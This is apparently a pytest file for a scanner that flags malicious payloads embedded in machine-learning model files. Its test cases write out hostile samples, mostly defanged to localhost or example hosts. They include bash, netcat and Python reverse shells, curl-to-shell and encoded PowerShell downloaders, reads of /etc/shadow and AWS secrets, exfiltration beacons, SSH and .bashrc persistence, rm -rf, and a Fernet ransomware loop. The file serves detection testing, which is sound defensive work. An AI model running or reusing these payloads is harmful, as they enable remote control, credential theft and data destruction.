"""assess_python / assess_shell on the payloads of the corpus' model rows (defanged)."""

from __future__ import annotations

import base64

import pytest

from malhug.analyzers.shared.embedded import assess_python, assess_shell
from malhug.core.model import Category, Severity

SHELL_CASES = [
    ("cat ~/.aws/secrets\n", Category.CREDENTIAL_THEFT, "~/.aws/secrets"),
    ("cat ~/aws/temp_secrets\n", Category.CREDENTIAL_THEFT, "temp_secrets"),
    ("cat /etc/shadow /etc/passwd /proc/1/cmdline /proc/1/environ", Category.CREDENTIAL_THEFT, "/etc/shadow"),
    ("touch HACKED", Category.FILE_WRITE, "HACKED"),
    ("touch ~/hacked-by-retr0reg", Category.FILE_WRITE, "hacked-by-retr0reg"),
    (
        "huggingface-cli upload transfo-xl ~/.cache/huggingface/hub/models--*--transfo-xl/snapshots/*/ 2>/dev/null 1>/dev/null",
        Category.EXFILTRATION,
        "Hugging Face Hub",
    ),
    (
        "huggingface-cli download zpbrent/RagRetriever --cache-dir .cache 2>/dev/null 1>/dev/null",
        Category.COMMAND_EXEC,
        "huggingface-cli",
    ),
    ("rm -r .cache/ 2>/dev/null 1>/dev/null", Category.DESTRUCTIVE, "rm"),
    ("echo 'pwnd!'", Category.COMMAND_EXEC, "echo"),
    ("open /System/Applications/Calculator.app/Contents/MacOS/Calculator", Category.COMMAND_EXEC, "open"),
    ("ls", Category.RECON, "ls"),
    ("whoami", Category.RECON, "whoami"),
    ("curl https://worker-bitter-mountain-9940.example.workers.dev/", Category.EXFILTRATION, "workers.dev"),
    ("bash -i >& /dev/tcp/127.0.0.1/4444 0>&1", Category.REVERSE_SHELL, "/dev/tcp"),
    ("nc -e /bin/sh 127.0.0.1 4444", Category.REVERSE_SHELL, "netcat"),
    ("curl -s http://127.0.0.1:8000/x.sh | bash", Category.DOWNLOAD_EXEC, "pipes into an interpreter"),
    ("wget -O- http://127.0.0.1/x | sh", Category.DOWNLOAD_EXEC, "pipes into an interpreter"),
    ("pip install totally-legit-pkg", Category.DOWNLOAD_EXEC, "pip"),
    ("rm -rf ~/", Category.DESTRUCTIVE, "recursively"),
    (
        "echo 'ssh-rsa AAAA' >> ~/.ssh/authorized_keys",
        Category.FILE_WRITE,
        "persistence location ~/.ssh/authorized_keys",
    ),
    ("echo 'curl 127.0.0.1|sh' >> ~/.bashrc", Category.FILE_WRITE, ".bashrc"),
    ("(uname -a; ps auxww) | curl -s https://127.0.0.1/$(whoami) --data-binary @-", Category.CREDENTIAL_THEFT, "ps"),
]


@pytest.mark.parametrize(("command", "category", "needle"), SHELL_CASES)
def test_assess_shell_categories(command: str, category: Category, needle: str) -> None:
    result = assess_shell(command)
    assert result.category is category, result.indicators
    assert result.severity >= Severity.HIGH
    assert any(needle in i for i in result.indicators) or any(needle in f.evidence for f in result.findings)
    assert all(f.category in {c for c in Category} for f in result.findings)


def test_assess_shell_python_c_reverse_shell() -> None:
    cmd = (
        "python3 -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);"
        's.connect(("127.0.0.1",4444));os.dup2(s.fileno(),0); os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);'
        'import pty; pty.spawn("sh")\''
    )
    result = assess_shell(cmd)
    assert result.category is Category.REVERSE_SHELL and result.severity is Severity.CRITICAL


def test_assess_shell_powershell_encoded_command() -> None:
    inner = "IEX (New-Object Net.WebClient).DownloadString('http://127.0.0.1/a.ps1')"
    encoded = base64.b64encode(inner.encode("utf-16-le")).decode()
    result = assess_shell(f"powershell -NoP -enc {encoded}")
    assert result.category is Category.DOWNLOAD_EXEC
    assert any("encoded PowerShell" in i for i in result.indicators)


def test_assess_shell_base64_pipeline_is_decoded() -> None:
    payload = base64.b64encode(b"cat /etc/passwd").decode()
    result = assess_shell(f"echo {payload} | base64 -d | sh")
    assert result.category is Category.CREDENTIAL_THEFT
    assert any("base64-decoded command: cat /etc/passwd" in i for i in result.indicators)


def test_assess_shell_empty_and_benign_redirects() -> None:
    assert assess_shell("").category is None
    assert assess_shell("   ").findings == ()
    result = assess_shell("echo done 2>/dev/null 1>/dev/null")
    assert result.category is Category.COMMAND_EXEC
    assert not any(f.rule == "MH511" for f in result.findings)


PYTHON_CASES = [
    ("import os\nos.system(\"echo 'malicious code executed'\")", Category.COMMAND_EXEC, "MH505"),
    ('__import__("os").system("ls")', Category.RECON, "MH505"),
    (
        "import webbrowser; webbrowser.open('https://127.0.0.1'); print('Malicious code!')",
        Category.COMMAND_EXEC,
        "MH505",
    ),
    ("exec('import os; os.system(\"calc\")')", Category.COMMAND_EXEC, "MH506"),
    ("torch.os.system('ls')", Category.RECON, "MH505"),
    ("import subprocess\n\nsubprocess.run(['Calc.exe'])", Category.COMMAND_EXEC, "MH505"),
    ("__import__('urllib.request').request.urlopen('https://abc.m.pipedream.net')", Category.EXFILTRATION, "MH513"),
    ('import requests\n\nrequests.get("https://webhook.site/8d128ef5")', Category.EXFILTRATION, "MH513"),
    (
        "import urllib.request; exec(urllib.request.urlopen('https://127.0.0.1/raw/x').read().decode())",
        Category.DOWNLOAD_EXEC,
        "MH504",
    ),
    ("open('p0wn3d.txt', 'w+').close()", Category.FILE_WRITE, "MH511"),
    ('open("/tmp/1","w").write("a")', Category.FILE_WRITE, "MH511"),
    ("import pdb; pdb.set_trace()", Category.CODE_EXEC, "MH506"),
    ("import os\nos.system('cat /etc/passwd')", Category.CREDENTIAL_THEFT, "MH505"),
    ("import os\nos.system('curl https://w.example.workers.dev/')", Category.EXFILTRATION, "MH505"),
]


@pytest.mark.parametrize(("code", "category", "rule"), PYTHON_CASES)
def test_assess_python_categories(code: str, category: Category, rule: str) -> None:
    result = assess_python(code, origin="pickle")
    assert result.category is category, result.indicators
    assert rule in {f.rule for f in result.findings}
    assert result.severity >= Severity.HIGH
    assert all(f.location.line is not None for f in result.findings)


def test_assess_python_globals_builtins_eval_chain() -> None:
    code = (
        "f = globals()['__builtins__']['eval'] if type(globals()['__builtins__']) is dict "
        "else globals()['__builtins__'].__dict__['eval']\n"
        "f(\"__import__('os').system('whoami')\")"
    )
    result = assess_python(code)
    assert result.category is Category.RECON
    (finding,) = [f for f in result.findings if f.rule == "MH506"]
    assert finding.location.line == 2


def test_assess_python_reverse_shell_thread_payload() -> None:
    code = """
RHOST="127.0.0.1";RPORT=4242;
from sys import platform
if platform != 'win32':
    import threading
    def a():
        import socket, pty, os
        RHOST="127.0.0.1";RPORT=4242
        s=socket.socket();s.connect((RHOST,RPORT));[os.dup2(s.fileno(),fd) for fd in (0,1,2)];pty.spawn("/bin/sh")
    threading.Thread(target=a).start()
"""
    result = assess_python(code)
    assert result.category is Category.REVERSE_SHELL
    (shell,) = [f for f in result.findings if f.rule == "MH501"]
    assert shell.evidence == 'pty.spawn("/bin/sh")'
    assert [s.message for s in shell.trace][:2] == [
        "connects a socket to 127.0.0.1:4242",
        "duplicates the socket onto stdin/stdout/stderr",
    ]


def test_assess_python_fernet_ransomware_is_destructive() -> None:
    code = """
from cryptography.fernet import Fernet
import os
key = Fernet.generate_key()
fer = Fernet(key)
os.chdir(r"C:\\Users\\{user}\\encrypt_test".format(user=os.getlogin()))
for root, dirs, files in os.walk("."):
    for filename in files:
        filepath = os.path.join(root, filename)
        with open(filepath, "rb") as f:
            data = f.read()
        encrypted = fer.encrypt(data)
        with open(filepath, "wb") as f:
            f.write(encrypted)
"""
    result = assess_python(code)
    assert result.category is Category.DESTRUCTIVE
    assert any(f.rule == "MH508" and "encrypts" in f.message for f in result.findings)


def test_assess_python_walk_and_remove_is_destructive() -> None:
    code = """
import os
os.chdir(r"C:\\Users\\{user}\\encrypt_test".format(user=os.getlogin()))
for root, dirs, files in os.walk("."):
    print(files)
    for filename in files:
        filepath = os.path.join(root, filename)
        os.remove(filepath)
"""
    result = assess_python(code)
    assert result.category is Category.DESTRUCTIVE
    (delete,) = [f for f in result.findings if f.rule == "MH508"]
    assert delete.evidence == "os.remove(filepath)" and delete.location.line == 8


def test_assess_python_lambda_url_beacon_with_platform_header() -> None:
    code = (
        "import sys, requests\n"
        "r = requests.get('https://abc.lambda-url.us-west-2.on.aws/', headers={'X-Plat': sys.platform})\n"
    )
    result = assess_python(code)
    assert result.category is Category.EXFILTRATION
    (sent,) = [f for f in result.findings if f.rule == "MH503"]
    assert "sys.platform" in sent.message and "headers" in sent.message


def test_assess_python_overwrites_library_source() -> None:
    code = """
from torch.utils.data import dataloader
source_code = open('bad_dataloader.py', 'r').read()
with open(dataloader.__file__, 'w') as f:
    f.write(source_code)
"""
    result = assess_python(code)
    assert result.category is Category.FILE_WRITE
    assert any(f.rule == "MH510" and "torch.utils.data.dataloader" in f.message for f in result.findings)


def test_assess_python_pip_subprocess_is_download_exec() -> None:
    code = 'import subprocess\nproc = subprocess.Popen("pip install geopy", stdout=subprocess.PIPE)\n'
    assert assess_python(code).category is Category.DOWNLOAD_EXEC


def test_assess_python_benign_payloads_have_no_category() -> None:
    for code in ["print('Model PWNED!')", "a = 7\nb = 10\nprint('Sum = ', a + b)", "import torch\nx = torch.zeros(3)"]:
        result = assess_python(code)
        assert result.category is None and result.severity is Severity.INFO and result.indicators == ()


def test_assess_python_syntax_error_and_depth_bound() -> None:
    assert assess_python("def (:").category is None
    nested = "os.system('id')"
    for _ in range(12):
        nested = f"exec({nested!r})"
    result = assess_python("import os\n" + nested)
    assert result.category in (Category.CODE_EXEC, Category.RECON)


KERAS_LAMBDAS = [
    ("# Embedded file name: /tmp/ipykernel/1.py\nreturn exec(\"print('Malicious code!')\") or x", Category.CODE_EXEC),
    ('# Embedded file name: /home/x/create.py\nimport os\nos.system("calc.exe")\nreturn x', Category.COMMAND_EXEC),
    ('os.system("echo This is an example of arbitrary code execution.")\nreturn x', Category.COMMAND_EXEC),
    (
        '# Embedded file name: /h/exploit.py\nimport os\nos.system("ls -la")\nos.system("whoami")\n'
        'os.system("curl https://worker-1.example.workers.dev/")\nreturn x',
        Category.EXFILTRATION,
    ),
]


@pytest.mark.parametrize(("code", "category"), KERAS_LAMBDAS)
def test_assess_python_decompiled_lambda_bodies_with_top_level_return(code: str, category: Category) -> None:
    result = assess_python(code, origin="model.h5:layer/lambda")
    assert result.category is category, result.indicators
    assert result.severity is Severity.HIGH


def test_assess_shell_python_c_with_leftover_escaped_quotes() -> None:
    cmd = (
        "python3 -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);"
        's.connect((\\"127.0.0.1\\",4444));os.dup2(s.fileno(),0);import pty; pty.spawn(\\"sh\\")\''
    )
    assert '\\"' in cmd
    assert assess_shell(cmd).category is Category.REVERSE_SHELL
